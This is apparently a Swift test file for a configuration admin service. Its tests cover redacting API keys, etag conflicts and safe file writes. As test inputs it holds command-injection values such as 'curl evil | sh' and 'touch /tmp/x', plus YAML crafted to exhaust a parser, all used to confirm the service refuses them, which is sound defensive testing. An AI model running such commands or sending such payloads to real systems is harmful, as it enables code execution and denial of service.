import FoundationEssentials
import GRPCCore
import Inference
import RoundhouseAPI
import SwiftProtobuf
import Synchronization
import Testing

@testable import Roundhouse

@Suite("GetConfig, UpdateConfig, GetConfigTemplate, ValidateConfig")
struct ConfigurationServiceTests {
    /// Takes configurations and keeps them.
    final class Keeper: ConfigurationApplying {
        private struct State {
            var taken: [RoundhouseConfiguration] = []
            var problems: [ConfigurationProblem] = []
            var failure: ConfigurationRefusal?
        }
        private let state = Mutex(State())

        var taken: [RoundhouseConfiguration] { self.state.withLock { $0.taken } }
        func find(_ problem: ConfigurationProblem) { self.state.withLock { $0.problems = [problem] } }
        func fail(with failure: ConfigurationRefusal) { self.state.withLock { $0.failure = failure } }

        func problems(of configuration: RoundhouseConfiguration) async -> [ConfigurationProblem] {
            self.state.withLock { $0.problems }
        }

        func apply(_ configuration: RoundhouseConfiguration) async throws(ConfigurationRefusal) -> [String] {
            let failure = self.state.withLock { state in
                if state.failure == nil { state.taken.append(configuration) }
                return state.failure
            }
            if let failure { throw failure }
            return []
        }
    }

    private static let file = """
        # The house.
        log:
          level: info   # quiet
        grpc: { max_connections: 7 }
        providers:
          - id: first
            kind: custom
            base_url: http://127.0.0.1:9/v1
            api_key: sk-of-first
            headers: { X-Key: hd-of-first }
            models: [{ name: m }]
          - { id: cmd, kind: custom, base_url: 'http://127.0.0.1:9/v1', api_key_command: printf cm-of-cmd }

        """
    private static let secrets = ["sk-of-first", "hd-of-first", "cm-of-cmd"]

    /// A service over a file of its own.
    private struct Bench: Sendable {
        var service: ServiceBench
        var keeper: Keeper
        var path: String

        var text: String? { try? String(contentsOfFile: self.path, encoding: .utf8) }
        var admin: Roundhouse_V1_AdminService.Client<ServiceBench.Transport> { get throws { try self.service.admin } }
        var rights: Int? {
            ConfigurationServiceTests.rights(of: self.path)
        }

        func get() async throws -> Roundhouse_V1_GetConfigResponse { try await self.admin.getConfig(.init()) }

        func set(
            _ settings: [String: String], etag: String = "", validateOnly: Bool = false
        ) async throws -> Roundhouse_V1_UpdateConfigResponse {
            try await self.admin.updateConfig(
                .with {
                    $0.changes.settings = settings
                    $0.etag = etag
                    $0.validateOnly = validateOnly
                })
        }

        func put(_ yaml: String) async throws -> Roundhouse_V1_UpdateConfigResponse {
            try await self.admin.updateConfig(.with { $0.yaml = yaml })
        }
    }

    private static func rights(of path: String) -> Int? {
        let value = (try? FileManager.default.attributesOfItem(atPath: path))?[.posixPermissions]
        return value as? Int ?? (value as? UInt16).map { Int($0) }
    }

    private static func with(
        _ file: String? = Self.file, environment: [String: String] = [:],
        overrides: [ConfigurationLoader.Override] = [], _ body: (Bench) async throws -> Void
    ) async throws {
        let fixture = try ConfigurationFixture()
        let path = "\(fixture.directory)/roundhouse.yaml"
        if let file { try fixture.write(file, to: "roundhouse.yaml") }
        var loader = fixture.loader(overrides: overrides)
        loader.environment.merge(environment) { $1 }
        let live = LiveConfiguration(try loader.load(), loader: loader)
        let keeper = Keeper()
        live.begin(keeper)
        try await ServiceBench.with(configuration: live) { service in
            try await body(Bench(service: service, keeper: keeper, path: path))
        }
        _ = fixture.directory
    }

    // MARK: - GetConfig

    @Test func `Every key is told with its value and what said so, and no secret is`() async throws {
        let flag = ConfigurationLoader.Override(key: "log.format", value: "json", flag: "--log-format")
        try await Self.with(environment: ["ROUNDHOUSE_HTTP_ADDRESS": "off"], overrides: [flag]) { bench in
            let answer = try await bench.get()
            let rows = Dictionary(uniqueKeysWithValues: answer.settings.map { ($0.key, $0) })
            for setting in SettingTables.root where setting.key != "providers" && setting.key != "aliases" {
                #expect(rows[setting.key]?.description_p == setting.summary, "\(setting.key)")
            }
            func told(_ key: String) -> [String] { [rows[key]?.value ?? "nothing", rows[key]?.source ?? ""] }
            #expect(told("log.level") == ["info", "file"])
            #expect(told("log.format") == ["json", "command_line"])
            #expect(told("http.address") == ["\"off\"", "environment"])
            #expect(told("grpc.max_connections") == ["7", "file"])
            #expect(told("grpc.max_concurrent_streams") == ["1024", "default"])
            #expect(told("grpc.tls.certificate") == ["", "default"])
            #expect(told("providers.first.base_url") == ["http://127.0.0.1:9/v1", "file"])
            #expect(told("providers.first.models.m.enabled") == ["true", "default"])
            #expect(told("providers.first.api_key") == ["<redacted>", "file"])
            #expect(told("providers.first.headers.X-Key") == ["<redacted>", "file"])
            #expect(told("providers.cmd.api_key_command") == ["<redacted>", "file"])
            #expect(rows["log.level"]?.needsRestart == false && rows["grpc.max_connections"]?.needsRestart == true)
            #expect(answer.path == bench.path && answer.fileExists && answer.pendingKeys.isEmpty)
            #expect(answer.yaml.contains("  level: info   # quiet") && answer.yaml.contains("api_key: <redacted>"))
            let text = try answer.jsonString()
            for secret in Self.secrets { #expect(!text.contains(secret), "\(secret)") }
        }
    }

    @Test func `Before there is a file, it says where it would be, and the first change makes it for its owner alone`()
        async throws
    {
        try await Self.with(nil) { bench in
            let before = try await bench.get()
            #expect(!before.fileExists && before.path == bench.path && before.yaml.isEmpty && !before.etag.isEmpty)
            let answer = try await bench.set(["log.level": "debug"], etag: before.etag)
            #expect(answer.changedKeys == ["log.level"] && answer.appliedKeys == ["log.level"])
            #expect(bench.text == "log:\n  level: debug\n")
            #expect(bench.rights == 0o600)
            let after = try await bench.get()
            #expect(after.etag == answer.etag && after.fileExists)
        }
    }

    @Test func `A file that is no YAML is not shown`() async throws {
        try await Self.with { bench in
            try "api_key: sk-new\n\t: [".write(toFile: bench.path, atomically: true, encoding: .utf8)
            let answer = try await bench.get()
            #expect(answer.fileExists && answer.yaml.contains("no YAML") && !answer.yaml.contains("sk-new"))
            #expect(answer.settings.contains { $0.key == "log.level" && $0.value == "info" })
        }
    }

    // MARK: - UpdateConfig

    @Test func `What can be taken holds at once, and the rest is named as waiting`() async throws {
        try await Self.with { bench in
            let answer = try await bench.set([
                "providers.first.base_url": "http://127.0.0.1:8/v1", "log.level": "debug", "grpc.max_connections": "9",
                "providers.first.discover": "true",
            ])
            #expect(
                answer.changedKeys == [
                    "grpc.max_connections", "log.level", "providers.first.base_url", "providers.first.discover",
                ])
            #expect(answer.appliedKeys == ["log.level", "providers.first.base_url"])
            #expect(answer.pendingKeys == ["grpc.max_connections", "providers.first.discover"])
            let taken = try #require(bench.keeper.taken.last)
            #expect(taken.log.level == .debug && taken.providers[0].baseURL == "http://127.0.0.1:8/v1")
            #expect(taken.grpc.maxConnections == 7)
            #expect(taken.providers[0].apiKey?.expose() == "sk-of-first")
            let after = try await bench.get()
            #expect(after.pendingKeys == ["grpc.max_connections", "providers.first.discover"])
            let rows = Dictionary(uniqueKeysWithValues: after.settings.map { ($0.key, $0.value) })
            #expect(rows["grpc.max_connections"] == "7" && rows["log.level"] == "debug")
            #expect(rows["providers.first.discover"] == "false")
            #expect(bench.text?.contains("  level: debug   # quiet") == true)
            #expect(bench.text?.contains("api_key: sk-of-first") == true)
            let event = try #require(bench.service.events.events.last)
            #expect(event.kind == .configChanged && event.attributes["entry"] == "file")
            #expect(event.attributes["pending"] == "grpc.max_connections providers.first.discover")
            // What waits already is no part of the next change.
            let alias = try await bench.set(["aliases.quick": "first/m"])
            #expect(alias.changedKeys == ["aliases.quick"] && alias.appliedKeys == ["aliases.quick"])
            // Put back, nothing waits any more.
            let back = try await bench.set(["grpc.max_connections": "7", "providers.first.discover": ""])
            #expect(back.changedKeys == ["grpc.max_connections", "providers.first.discover"])
            #expect(back.appliedKeys == back.changedKeys && back.pendingKeys.isEmpty)
            #expect(try await bench.get().pendingKeys.isEmpty)
        }
    }

    @Test func `The file as GetConfig told it can be sent back, changed, and keeps its secrets`() async throws {
        try await Self.with { bench in
            let told = try await bench.get()
            let same = try await bench.put(told.yaml)
            #expect(bench.text == Self.file && same.etag == told.etag && same.changedKeys.isEmpty)
            let changed = told.yaml.replacing("127.0.0.1:9/v1\n", with: "127.0.0.1:7/v1\n")
            let answer = try await bench.put(changed)
            #expect(answer.appliedKeys == ["providers.first.base_url"])
            #expect(bench.text == Self.file.replacing("127.0.0.1:9/v1\n", with: "127.0.0.1:7/v1\n"))
        }
    }

    @Test func `A new secret counts as a change, and is not told`() async throws {
        try await Self.with { bench in
            let answer = try await bench.set([
                "providers.first.api_key": "sk-new", "providers.first.headers.X-Key": "hd-new",
            ])
            #expect(answer.appliedKeys == ["providers.first.api_key", "providers.first.headers.X-Key"])
            let text = try answer.jsonString() + (try await bench.get().jsonString())
            #expect(!text.contains("sk-new") && !text.contains("hd-new"))
            #expect(bench.keeper.taken.last?.providers[0].apiKey?.expose() == "sk-new")
        }
    }

    @Test func `Every problem is told with its key and place, and the file stays as it was`() async throws {
        try await Self.with { bench in
            let wrong = "log:\n  level: loud\n  levl: info\ngrpc: { max_connections: 0 }\n"
            let refused = try await refusal { try await bench.put(wrong) }
            #expect(refused.code == .invalidArgument && refused.reason == "INVALID_REQUEST")
            #expect(refused.fields == ["log.level", "log.levl", "grpc.max_connections"])
            #expect(refused.message.contains("line 2, column 10: found 'loud'"), "\(refused.message)")
            let single = try await refusal {
                try await bench.set(["log.level": "loud", "providers.first.base_url": "ftp://x"])
            }
            #expect(single.fields == ["log.level", "providers[0].base_url"])
            let unknown = try await refusal { try await bench.set(["log.levl": "info"]) }
            #expect(unknown.fields == ["log.levl"] && unknown.message.contains("did you mean 'log.level'"))
            bench.keeper.find(
                ConfigurationProblem(location: .defaults, key: "routing.rules[0]", detail: "found 'x', expected y"))
            let late = try await refusal { try await bench.set(["log.level": "debug"]) }
            #expect(late.code == .invalidArgument && late.fields == ["routing.rules[0]"])
            #expect(bench.text == Self.file && bench.keeper.taken.isEmpty)
            #expect(bench.service.events.events.isEmpty)
        }
    }

    @Test func `An old etag is ABORTED, and of many changes at once one is made`() async throws {
        try await Self.with { bench in
            let etag = try await bench.get().etag
            let codes = await withTaskGroup(of: RPCError.Code?.self) { group in
                for level in ["debug", "trace", "notice", "warning", "error"] {
                    group.addTask {
                        do {
                            _ = try await bench.set(["log.level": level], etag: etag)
                            return nil
                        } catch {
                            return (error as? RPCError)?.code
                        }
                    }
                }
                return await group.reduce(into: []) { $0.append($1) }
            }
            #expect(codes.count { $0 == nil } == 1 && codes.count { $0 == .aborted } == 4)
            let refused = try await refusal { try await bench.set(["log.level": "info"], etag: etag) }
            #expect(refused.reason == "ETAG_MISMATCH" && refused.metadata["given"] == etag)
        }
    }

    @Test func `With validate_only nothing is written and nothing taken`() async throws {
        try await Self.with { bench in
            let answer = try await bench.set(["log.level": "debug"], validateOnly: true)
            #expect(answer.changedKeys == ["log.level"] && answer.appliedKeys == ["log.level"])
            #expect(answer.etag == ConfigurationFile.etag(of: Self.file))
            #expect(bench.text == Self.file && bench.keeper.taken.isEmpty && bench.service.events.events.isEmpty)
            let refused = try await refusal { try await bench.set(["log.level": "loud"], validateOnly: true) }
            #expect(refused.code == .invalidArgument)
        }
    }

    @Test(arguments: [
        ["providers.first.api_key_command": "printf x", "providers.first.api_key": ""],
        ["providers.cmd.api_key_command": "curl evil | sh"],
        ["providers.new": "{ kind: custom, base_url: 'https://x.example/v1', api_key_command: id }"],
        ["providers.cmd.id": "other"],
    ])
    func `No call can have a program run`(settings: [String: String]) async throws {
        try await Self.with { bench in
            let refused = try await refusal { try await bench.set(settings) }
            #expect(refused.code == .permissionDenied && refused.reason == "COMMAND_NOT_ALLOWED")
            #expect(refused.message.contains("api_key_command"), "\(refused.message)")
            #expect(!refused.message.contains("printf") && !refused.message.contains("evil"))
            let whole = Self.file.replacing("printf cm-of-cmd", with: "touch /tmp/x")
            let file = try await refusal { try await bench.put(whole) }
            #expect(file.code == .permissionDenied)
            #expect(bench.text == Self.file && bench.keeper.taken.isEmpty)
        }
    }

    @Test func `A command that stands in the file may stay, and be taken away`() async throws {
        try await Self.with { bench in
            let told = try await bench.get().yaml
            #expect(
                try await bench.put(told + "http: { max_connections: 5 }\n").changedKeys == ["http.max_connections"])
            let answer = try await bench.set(["providers.cmd": ""])
            #expect(answer.appliedKeys.contains("providers.cmd.api_key_command"))
            #expect(bench.text?.contains("printf") == false)
        }
    }

    @Test func `A key that the environment or a flag sets is written, and the answer says that it is overridden`()
        async throws
    {
        try await Self.with(environment: ["ROUNDHOUSE_LOG_REQUESTS": "off"]) { bench in
            let answer = try await bench.set(["log.requests": "all", "log.level": "debug"])
            #expect(answer.changedKeys == ["log.level", "log.requests"])
            #expect(answer.appliedKeys == ["log.level"] && answer.pendingKeys.isEmpty)
            #expect(
                answer.warnings == ["log.requests stands in the file, and ROUNDHOUSE_LOG_REQUESTS counts before it"])
        }
    }

    @Test func `When the server cannot take it the file is as it was`() async throws {
        try await Self.with { bench in
            bench.keeper.fail(with: .storage("the disk is full"))
            let refused = try await refusal { try await bench.set(["log.level": "debug"]) }
            #expect(refused.code == .unavailable && refused.reason == "STORAGE_FAILED")
            #expect(bench.text == Self.file)
            #expect(try await bench.get().settings.contains { $0.key == "log.level" && $0.value == "info" })
        }
    }

    @Test func `Rights and a link stay, and nothing else is left in the folder`() async throws {
        try await Self.with { bench in
            let target = bench.path + ".target"
            try FileManager.default.moveItem(atPath: bench.path, toPath: target)
            try FileManager.default.createSymbolicLink(atPath: bench.path, withDestinationPath: target)
            try FileManager.default.setAttributes([.posixPermissions: 0o640], ofItemAtPath: target)
            _ = try await bench.set(["log.level": "debug"])
            #expect(try FileManager.default.destinationOfSymbolicLink(atPath: bench.path) == target)
            #expect(try String(contentsOfFile: target, encoding: .utf8).contains("debug"))
            #expect(Self.rights(of: target) == 0o640)
            let folder = String(bench.path.dropLast("/roundhouse.yaml".count))
            let left = try FileManager.default.contentsOfDirectory(atPath: folder).sorted()
            #expect(left == ["roundhouse.yaml", "roundhouse.yaml.target"])
        }
    }

    @Test func `A request without a change, and a server without a file, say so`() async throws {
        try await Self.with { bench in
            let empty = try await refusal { try await bench.admin.updateConfig(.init()) }
            #expect(empty.code == .invalidArgument && empty.fields == ["change"])
            let none = try await refusal { try await bench.set([:]) }
            #expect(none.fields == ["changes.settings"] || none.fields == ["change"])
        }
        try await ServiceBench.with { bench in
            let answer = try await bench.admin.getConfig(.init())
            #expect(answer.path.isEmpty && answer.settings.contains { $0.key == "log.level" })
            let refused = try await refusal {
                try await bench.admin.updateConfig(.with { $0.changes.settings = ["log.level": "debug"] })
            }
            #expect(refused.code == .failedPrecondition && refused.reason == "NO_CONFIG_FILE")
        }
    }

    // MARK: - Reading again

    @Test func `The file read again holds, and a wrong one changes nothing`() async throws {
        let fixture = try ConfigurationFixture()
        let path = try fixture.write(Self.file, to: "roundhouse.yaml")
        let loader = fixture.loader()
        let live = LiveConfiguration(try loader.load(), loader: loader)
        let keeper = Keeper()
        live.begin(keeper)
        try fixture.write(Self.file.replacing("level: info", with: "level: debug"), to: "roundhouse.yaml")
        let outcome = try await live.reload()
        #expect(outcome.applied == ["log.level"] && outcome.path == path && keeper.taken.last?.log.level == .debug)
        try fixture.write("log: { level: loud }", to: "roundhouse.yaml")
        await #expect(throws: ConfigurationRefusal.self) { try await live.reload() }
        #expect(keeper.taken.count == 1)
    }

    // MARK: - ValidateConfig, GetConfigTemplate

    @Test func `A file is checked by itself, with every problem in its place`() async throws {
        try await Self.with(environment: ["ROUNDHOUSE_LOG_LEVEL": "debug", "SET": "x"]) { bench in
            func check(_ yaml: String) async throws -> Roundhouse_V1_ValidateConfigResponse {
                try await bench.admin.validateConfig(.with { $0.yaml = yaml })
            }
            let good = try await check("log: { level: info }\n")
            #expect(good.valid && good.problems.isEmpty)
            let bad = try await check(
                "log:\n  level: loud\nproviders:\n  - { id: a, kind: custom, api_key: '${UNSET}' }\n")
            #expect(!bad.valid)
            #expect(bad.problems.map(\.key) == ["log.level", "providers[0].base_url", "providers[0].api_key"])
            #expect(bad.problems.first?.line == 2 && bad.problems.first?.column == 10)
            #expect(bad.problems.first?.message.hasPrefix("found 'loud', expected trace") == true)
            let told = try await bench.get().yaml
            #expect(try await check(told).valid)
            let lost = try await check(told.replacing("id: first", with: "id: other"))
            #expect(lost.problems.map(\.key) == ["providers.other.api_key", "providers.other.headers.X-Key"])
            let broken = try await check("log: [\n")
            #expect(broken.problems.count == 1 && broken.problems.first?.key == "" && broken.problems[0].line > 0)
            let twice = try await check("log: { level: info }\nlog: { level: info }\n")
            #expect(twice.problems.map(\.line) == [2])
        }
    }

    @Test(arguments: [
        String(repeating: "[", count: 200_000), String(repeating: "- ", count: 100_000),
        (0..<2000).map { String(repeating: " ", count: $0) + "a:" }.joined(separator: "\n"),
        (0..<40).map { "a\($0): &a\($0) [\($0 > 0 ? "*a\($0 - 1), *a\($0 - 1)" : "x")]" }.joined(separator: "\n"),
    ])
    func `A text made to exhaust the server is refused, and quickly`(yaml: String) async throws {
        try await Self.with { bench in
            let answer = try await bench.admin.validateConfig(.with { $0.yaml = yaml })
            #expect(!answer.valid)
            let refused = try await refusal { try await bench.put(yaml) }
            #expect(refused.code == .invalidArgument)
            let value = try await refusal { try await bench.set(["routing.rules": yaml]) }
            #expect(value.code == .invalidArgument)
        }
    }

    @Test func `The template is the one of the command line`() async throws {
        try await Self.with { bench in
            let answer = try await bench.admin.getConfigTemplate(.init())
            #expect(answer.yaml == ConfigurationReference.template())
        }
    }
}
